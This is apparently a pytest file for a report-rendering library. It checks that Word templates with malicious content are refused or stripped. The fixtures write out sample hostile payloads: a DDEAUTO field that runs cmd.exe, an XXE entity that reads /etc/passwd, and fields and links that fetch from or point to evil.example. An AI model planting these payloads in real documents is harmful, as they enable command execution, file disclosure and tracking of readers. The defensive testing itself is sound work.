"""Hostile template packages: active content refused, what Word adds by itself stripped, nothing carried through."""

from __future__ import annotations

import io
import re
import zipfile

import pytest

import ldd_reports
from ldd_reports import TemplateError, TemplateWarning
from ldd_reports.templating.check import check_template

from conftest import minimal_report, needs_soffice, open_docx, soffice_convert
from docx_fixtures import build

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def plant(path, *, parts=None, rels=None, types="", body="", edit=None):
    """The cabinet template with extra parts, relationships (rels part -> XML), content types and body XML."""
    source = build.build("cabinet_report")
    parts = dict(parts or {})
    with zipfile.ZipFile(io.BytesIO(source)) as src:
        for name in src.namelist():
            data = src.read(name).decode("utf-8")
            if name == "[Content_Types].xml":
                data = data.replace("</Types>", types + "</Types>")
            if name == "word/document.xml" and body:
                data = data.replace("<w:body>", "<w:body>" + body, 1)
            for rels_part, extra in (rels or {}).items():
                if name == rels_part:
                    data = data.replace("</Relationships>", extra + "</Relationships>")
            if edit and name in edit:
                data = edit[name](data)
            parts.setdefault(name, data.encode("utf-8"))
    for rels_part, extra in (rels or {}).items():
        if rels_part not in parts:
            parts[rels_part] = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                                f'openxmlformats.org/package/2006/relationships">{extra}</Relationships>').encode()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def field(instruction):
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{instruction}'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


REFUSED = {
    "macros": dict(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
                   types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
                   rels={"word/_rels/document.xml.rels": '<Relationship Id="rIdVba" Type="http://schemas.microsoft'
                                                         '.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'}),
    "macro_enabled_type": dict(edit={"[Content_Types].xml": lambda t: t.replace(
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")}),
    "alt_chunk": dict(parts={"word/chunk.htm": b"<html><img src='http://evil.example/x.png'></html>"},
                      types='<Default Extension="htm" ContentType="text/html"/>',
                      rels={"word/_rels/document.xml.rels": f'<Relationship Id="rIdChunk" Type="{REL}aFChunk" '
                                                            'Target="chunk.htm"/>'},
                      body='<w:altChunk r:id="rIdChunk" xmlns:r="http://schemas.openxmlformats.org/officeDocument'
                           '/2006/relationships"/>'),
    "ddeauto_field": dict(body=field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
    "includetext_simple_field": dict(body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x&quot;">'
                                          '<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
    "includepicture_split_over_runs": dict(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                                                ' INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.'
                                                'example/p.png" \\d</w:instrText></w:r><w:r><w:fldChar w:fldCharType='
                                                '"end"/></w:r></w:p>'),
    "doctype_with_system_entity": dict(edit={"word/styles.xml": lambda t: t.replace(
        "?>", '?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1)}),
    "remote_image": dict(rels={"word/_rels/document.xml.rels": f'<Relationship Id="rIdImg" Type="{REL}image" '
                                                               'Target="http://evil.example/track.png" '
                                                               'TargetMode="External"/>'}),
    "file_link": dict(rels={"word/_rels/document.xml.rels": f'<Relationship Id="rIdF" Type="{REL}hyperlink" '
                                                            'Target="file:///etc/passwd" TargetMode="External"/>'}),
    "unc_link": dict(rels={"word/_rels/document.xml.rels": f'<Relationship Id="rIdU" Type="{REL}hyperlink" '
                                                           'Target="\\\\evil.example\\share\\x" TargetMode="External"/>'}),
    "activex": dict(parts={"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"},
                    types='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.'
                          'activeX+xml"/>'),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_active_content_is_refused_naming_what_and_where(tmp_path, case):
    template = plant(tmp_path / "hostile.docx", **REFUSED[case])
    out = tmp_path / "out.docx"
    with pytest.raises(TemplateError) as info:
        ldd_reports.render(minimal_report(), out, template)
    assert "not allowed" in str(info.value) and "hostile.docx" in str(info.value)
    assert not out.exists()
    findings = check_template(template)  # `template check` says the same, as an error
    assert findings[0].severity == "error" and "not allowed" in findings[0].message


def test_a_macro_enabled_file_name_is_refused(tmp_path):
    template = tmp_path / "ours.docm"
    template.write_bytes(build.build("cabinet_report"))
    with pytest.raises(TemplateError, match="macro-enabled"):
        ldd_reports.render_bytes(ldd_reports.loads(__import__("json").dumps(minimal_report()), "json"), template)


def test_a_fetching_field_assembled_by_template_tags_is_refused_at_render(tmp_path):
    template = plant(tmp_path / "t.docx", body=field("INCLUDE{{ 'TEXT' }} \"http://evil.example/x\""))
    with pytest.raises(TemplateError, match="INCLUDETEXT field"):
        ldd_reports.render(minimal_report(), tmp_path / "out.docx", template)


STRIPPED = dict(
    rels={"word/_rels/settings.xml.rels": f'<Relationship Id="rIdT" Type="{REL}attachedTemplate" '
                                          'Target="http://evil.example/remote.dotm" TargetMode="External"/>',
          "word/_rels/document.xml.rels": f'<Relationship Id="rIdCx" Type="{REL}customXml" '
                                          'Target="../customXml/item1.xml"/>'
                                          f'<Relationship Id="rIdWeb" Type="{REL}hyperlink" '
                                          'Target="https://www.localdigital.gov.uk/" TargetMode="External"/>'},
    parts={"customXml/item1.xml": b"<secret>exfiltrate me</secret>",
           "customXml/_rels/item1.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats'
                                              b'.org/package/2006/relationships"/>',
           "word/printerSettings/printerSettings1.bin": b"\x00\x01"},
    types='<Override PartName="/word/printerSettings/printerSettings1.bin" ContentType="application/vnd.'
          'openxmlformats-officedocument.wordprocessingml.printerSettings"/>',
    edit={"word/settings.xml": lambda t: re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT" '
                                                 r'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                                                 r'relationships"/>', t, count=1)},
)


def test_what_word_adds_by_itself_is_stripped_with_a_warning_and_absent_from_the_output(tmp_path):
    template = plant(tmp_path / "wordsaved.docx", **STRIPPED)
    out = tmp_path / "out.docx"
    with pytest.warns(TemplateWarning) as caught:
        ldd_reports.render(minimal_report(), out, template)
    said = " ".join(str(w.message) for w in caught)
    assert "remote.dotm" in said and "customXml/item1.xml" in said and "printerSettings1.bin" in said
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        raw = b"".join(z.read(n) for n in names)
    assert not [n for n in names if n.startswith("customXml/") or "printerSettings" in n]
    assert b"evil.example" not in raw and b"attachedTemplate" not in raw and b"exfiltrate" not in raw
    assert b"customXml" not in raw
    assert b"https://www.localdigital.gov.uk/" in raw  # an http(s) hyperlink is allowed
    assert open_docx(out).paragraphs
    warnings = [f for f in check_template(template) if f.code == "stripped"]
    assert len(warnings) == 3 and all(f.severity == "warning" for f in warnings)


@needs_soffice
@pytest.mark.libreoffice
def test_libreoffice_opens_the_output_of_a_stripped_template(tmp_path):
    template = plant(tmp_path / "wordsaved.docx", **STRIPPED)
    out = tmp_path / "stripped.docx"
    with pytest.warns(TemplateWarning):
        ldd_reports.render(minimal_report(), out, template)
    soffice_convert([out], tmp_path)
    assert (tmp_path / "stripped.pdf").read_bytes().startswith(b"%PDF")


def test_the_command_line_says_what_was_stripped_in_one_line_each(tmp_path):
    import subprocess
    import sys

    from conftest import ROOT

    template = plant(tmp_path / "wordsaved.docx", **STRIPPED)
    paper = tmp_path / "paper.json"
    paper.write_text(__import__("json").dumps(minimal_report()), encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "ldd_reports", "render", str(paper), "--template", str(template),
                             "-o", str(tmp_path / "out.docx")], capture_output=True, text=True, cwd=ROOT)
    assert result.returncode == 0, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 3 and all(line.startswith("ldd-reports: warning: template 'wordsaved.docx': removed")
                                   for line in lines), result.stderr
